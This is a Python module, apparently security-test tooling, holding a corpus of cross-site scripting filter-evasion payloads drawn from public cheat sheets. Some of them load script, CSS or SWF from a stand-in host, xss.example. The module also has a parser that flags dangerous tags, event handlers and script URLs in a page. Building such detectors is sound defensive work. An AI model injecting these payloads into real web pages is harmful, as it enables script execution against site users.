"""A corpus of known cross-site scripting payloads and a check for anything executable in a page."""

import re
from collections import Counter
from html.parser import HTMLParser

# OWASP's XSS filter-evasion cheat sheet, PortSwigger's cheat sheet and html5sec.org, abridged: script
# tags, event handlers, javascript:/vbscript:/data: URLs, SVG/MathML, encodings, mixed case, broken markup.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<SCRIPT SRC="https://xss.example/x.js"></SCRIPT>',
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script><'",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    "<img src=x onerror=alert(1)//",
    '<img src="x:x" oNeRrOr="alert(1)">',
    '<a href="javascript:alert(1)">bấm vào đây</a>',
    '<a href="&#x6A;avascript:alert(1)">bấm</a>',
    '<a href=" &#14;  javascript:alert(1)">bấm</a>',
    '<a href="java\nscript:alert(1)">bấm</a>',
    '<a href="vbscript:msgbox(1)">bấm</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">bấm</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="https://xss.example/x.swf">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">Gửi</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://xss.example/">',
    '<link rel="stylesheet" href="https://xss.example/x.css">',
    "<style>@import 'https://xss.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">nền</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">Trang giả mạo</p>',
    "<details open ontoggle=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<isindex action=javascript:alert(1) type=image>",
    "<p>\x00<script>alert(1)</script></p>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7*7 }} {% debug %} ${7*7}",
]

DANGEROUS_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "meta", "link", "style",
    "svg", "math", "form", "input", "button", "textarea", "select", "video", "audio", "source", "details",
    "isindex", "template", "noscript",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background", "poster", "srcdoc"}
DATA_BLOCK = "application/ld+json"
BAD_SCHEME = re.compile(r"^(javascript|vbscript|data):")


class _Signatures(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = Counter()

    def handle_starttag(self, tag, attrs):
        if tag == "script" and dict(attrs).get("type") == DATA_BLOCK:
            # A JSON-LD data block (the report page's schema.org Dataset): a browser never runs it (HTML: a
            # script whose type is not a JavaScript type is a data block). Counted apart, so that a payload
            # that ends it and opens a real <script> still shows as an added ("tag", "script").
            self.found[("data block", DATA_BLOCK)] += 1
        elif tag in DANGEROUS_TAGS:
            self.found[("tag", tag)] += 1
        for name, value in attrs:
            if name.startswith("on"):
                self.found[("event handler", tag, name)] += 1
            elif name == "style":
                self.found[("inline style", tag)] += 1
            elif name in URL_ATTRIBUTES and value:
                normalized = re.sub(r"[\s\x00-\x20]", "", value).lower()
                if BAD_SCHEME.match(normalized) or name == "srcdoc":
                    self.found[("url", tag, name, normalized.split(":")[0])] += 1

    handle_startendtag = handle_starttag


def executable_parts(html):
    """Everything in `html` that could run script or change the page: a Counter of signatures."""
    parser = _Signatures()
    parser.feed(html)
    parser.close()
    return parser.found


def added_executable_parts(baseline_html, attacked_html):
    """What the attacked page has that the same page without the payload had not."""
    return executable_parts(attacked_html) - executable_parts(baseline_html)
